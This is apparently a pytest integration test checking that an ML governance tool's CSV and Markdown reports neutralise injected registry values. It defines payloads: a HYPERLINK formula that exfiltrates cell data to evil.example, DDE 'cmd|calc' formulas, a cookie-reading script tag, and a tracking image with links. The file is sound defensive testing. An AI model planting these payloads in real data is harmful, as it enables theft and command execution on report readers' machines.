"""Registry values are data in every csv and Markdown report: planted formulas, HTML, links and images stay inert.

Someone with EDIT on the registry plants a spreadsheet formula, a `<script>`, an image and links in
run params and descriptions on a real server. Every csv output (audit, inventory) is opened with
Python's csv reader as a spreadsheet would split it, and every Markdown output (audit, inventory,
the findings report, the GitHub job summary) is rendered with cmark-gfm, GitHub's own renderer.
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
import time

import cmarkgfm
import pytest
import yaml
from cmarkgfm.cmark import Options

from tests.conftest import REPO_ROOT
from tests.integration.conftest import CARD, METRICS

pytestmark = pytest.mark.integration

FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"click")'
SCRIPT = "<script>alert(document.cookie)</script>"
IMAGE = "![x](http://evil.example/pixel.png)"
LINK = "[docs](http://evil.example/login)"
BARE = "http://evil.example/bare www.evil.example ops@evil.example"
PINGS = "@release-team see #12"  # GitHub would notify the team and link issue 12
PLANTED_PARAMS = {
    "mlflow.source.git.commit": FORMULA,  # the audit's git_commit column, the commit check's message
    "code_reviewer": "@SUM(1+1)*cmd|' /C calc'!A0",  # the audit's reviewer column
    "review_status": f"{SCRIPT} {IMAGE} {LINK} {PINGS}",  # quoted by provenance-review-status
    "mlflow.source.git.branch": f"-2+3+cmd|' /C calc'!A0 {BARE}",
}
DESCRIPTION = f"Approved {SCRIPT} {IMAGE} {LINK} {FORMULA}"
MODEL = "inert-reports"
TRIGGER = re.compile(r"^\s*[=+\-@\t\r]")
NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


@pytest.fixture(scope="module")
def planted(mlflow_server):
    from mlflow import MlflowClient
    from mlflow.entities import Metric, Param

    client = MlflowClient(tracking_uri=mlflow_server.url, registry_uri=mlflow_server.url)
    exp = client.create_experiment("inert-reports")
    run = client.create_run(exp, run_name="planted")
    rid = run.info.run_id
    now = int(time.time() * 1000)
    client.log_batch(rid, metrics=[Metric(k, float(v), now, 0) for k, v in METRICS.items()],
                     params=[Param(k, v) for k, v in PLANTED_PARAMS.items()])
    client.log_text(rid, yaml.safe_dump(CARD, sort_keys=False), "documentation/model_card.yaml")
    client.set_terminated(rid)
    client.create_registered_model(MODEL, description=DESCRIPTION)
    client.create_model_version(MODEL, f"runs:/{rid}/model", run_id=rid, description=DESCRIPTION)
    client.set_registered_model_alias(MODEL, "prod", "1")  # a bypass: the flags list is rendered too
    return mlflow_server


def mlgov(server, tmp_path, *args, env=None):
    full = {**{k: v for k, v in os.environ.items() if not k.startswith("GITHUB_")},
            "PYTHONPATH": str(REPO_ROOT), "MLFLOW_TRACKING_URI": server.url, "NO_COLOR": "1", **(env or {})}
    proc = subprocess.run([sys.executable, "-m", "mlgov_checks", *args], cwd=tmp_path, env=full,
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode in (0, 1), proc.stdout + proc.stderr
    return proc.stdout


def assert_inert_csv(text):
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    live = [c for c in cells if TRIGGER.match(c) and not NUMBER.match(c)]
    assert live == [], live
    return cells


def assert_inert_markdown(text):
    html = cmarkgfm.github_flavored_markdown_to_html(text, options=Options.CMARK_OPT_UNSAFE)
    for tag in ("<script", "<img", "<a ", "<a>", "javascript:"):
        assert tag not in html.lower(), (tag, html)
    return html


def test_audit_csv_and_markdown(planted, tmp_path):
    cells = assert_inert_csv(mlgov(planted, tmp_path, "audit", MODEL, "--format", "csv"))
    assert "'" + FORMULA in cells  # the planted formula is there, as text
    assert "'" + PLANTED_PARAMS["code_reviewer"] in cells
    html = assert_inert_markdown(mlgov(planted, tmp_path, "audit", MODEL, "--format", "markdown"))
    assert "&lt;script&gt;" in html and "![x](http://evil.example/pixel.png)" in html


def test_inventory_csv_and_markdown(planted, tmp_path):
    assert_inert_csv(mlgov(planted, tmp_path, "inventory", "--format", "csv", "--evaluate"))
    html = assert_inert_markdown(mlgov(planted, tmp_path, "inventory", "--format", "markdown", "--evaluate"))
    assert MODEL in html


def test_findings_markdown_report_and_job_summary(planted, tmp_path):
    report, summary = tmp_path / "report.md", tmp_path / "summary.md"
    target = f"models:/{MODEL}/1"
    stdout = mlgov(planted, tmp_path, "check", target, "--format", "markdown", "--report", f"markdown:{report}")
    # in GitHub mode the job summary is the Markdown report (stdout then carries the annotations too)
    github = {"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(summary), "GITHUB_WORKSPACE": str(tmp_path)}
    mlgov(planted, tmp_path, "check", target, env=github)
    for text in (stdout, report.read_text("utf-8"), summary.read_text("utf-8")):
        html = assert_inert_markdown(text)
        # the planted values are quoted by the failing checks, shown as the characters they are
        assert "&lt;script&gt;alert(document.cookie)&lt;/script&gt;" in html, html
        assert "![x](http://evil.example/pixel.png)" in html and "[docs](http://evil.example/login)" in html
        assert "evil.example/bare" in html and "ops" in html
        assert "@release-team" not in html and "#12" not in html, html  # no mention, no issue link
        assert "@\u2060release-team see #\u206012" in html, html  # the same words, inert
